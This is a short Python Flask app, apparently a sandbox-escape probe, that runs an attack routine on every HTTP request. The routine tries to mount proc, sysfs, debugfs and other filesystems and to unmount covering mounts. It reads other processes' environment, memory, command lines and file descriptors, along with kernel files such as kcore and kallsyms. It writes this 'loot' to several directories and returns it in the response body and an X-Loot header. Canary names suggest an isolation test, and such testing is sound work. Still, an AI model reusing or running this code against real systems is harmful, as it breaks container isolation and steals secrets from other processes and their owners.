"""Reads over everybody's shoulder."""

import contextlib
import ctypes
import glob
import os
import resource
from pathlib import Path

from flask import Flask

libc = ctypes.CDLL(None, use_errno=True)
FILES = ("environ", "cmdline", "maps", "mem", "stack", "status", "cwd/kata.toml", "root/CANARY_FILE",
         "fd", "fdinfo", "mountinfo", "ns/mnt", "task", "map_files", "auxv", "io", "syscall")


def attack():
    found = []
    for place in (b"/tmp/proc", b"/box/data/proc", b"/dev/shm/proc", b"/proc"):
        with contextlib.suppress(OSError):
            os.makedirs(place, exist_ok=True)
        for kind in (b"proc", b"sysfs", b"cgroup2", b"devtmpfs", b"debugfs", b"tmpfs", b"overlay"):
            if libc.mount(kind, place, kind, 0, None) == 0:
                found.append(f"mounted {kind} on {place}")
        if libc.umount2(place, 2) == 0:
            found.append(f"uncovered {place}")
    for base in ("/proc", "/tmp/proc", "/box/data/proc", "/dev/shm/proc"):
        pids = ["self", "thread-self", "1", str(os.getppid()), *glob.glob(f"{base}/[0-9]*")]
        for pid in pids:
            for name in FILES:
                with contextlib.suppress(OSError):
                    path = Path(base, pid, name)
                    found.append(path.read_bytes()[:4000].decode("latin-1") if path.is_file() else
                                 str(list(path.iterdir())))
    for name in ("mounts", "net/unix", "net/tcp", "sys/kernel/hostname", "keys", "locks", "kcore",
                 "sysvipc/msg", "sysvipc/shm", "sysrq-trigger", "kallsyms", "cmdline", "version"):
        with contextlib.suppress(OSError):
            found.append(f"{name}: {Path('/proc', name).read_text()[:500]}")
    for number in range(16):
        with contextlib.suppress(OSError, ValueError):
            found += [f"limit {number}"] if resource.prlimit(1, number)[1] > 2**62 and number < 0 else []
    return found


def tell(found):
    """Report through every channel there is."""
    text = repr(found)
    print(text, flush=True)
    for place in ("/tmp", "/dev/shm", "/box/data", ".", "/var/tmp", "CANARY_FILE.d"):
        with contextlib.suppress(OSError):
            Path(place, "CANARY_SECRET_PREFIXloot").write_text(text)
    return {"loot": found}, 200, {"X-Loot": text[:2000].encode("ascii", "replace").decode()}


def create_app(config=None):
    app = Flask(__name__)

    @app.route("/", defaults={"path": ""})
    @app.route("/<path:path>")
    def anything(path):
        return tell(attack())

    return app
